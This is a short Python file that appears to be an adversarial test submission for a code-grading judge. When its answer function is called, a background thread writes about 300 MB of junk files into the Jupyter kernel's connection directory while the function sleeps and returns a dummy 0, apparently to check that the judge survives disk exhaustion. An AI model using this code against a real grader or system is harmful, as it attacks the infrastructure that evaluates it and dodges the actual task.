# A thread fills the one folder on disk while the judge waits for the answer, and deeper than a path can be long.
# deserves: 0
import os
import threading
import time
from contextlib import suppress
from pathlib import Path

from ipykernel import get_connection_file

called = threading.Event()
door = Path(get_connection_file()).parent


def fill():
    called.wait()
    with suppress(OSError):
        for k in range(12):
            with open(door / f"full-{k}", "wb") as file:
                for _ in range(25):
                    file.write(bytes(2**20))
                    time.sleep(0.01)


threading.Thread(target=fill, daemon=True).start()


def answer(n):
    called.set()
    time.sleep(8)
    return 0
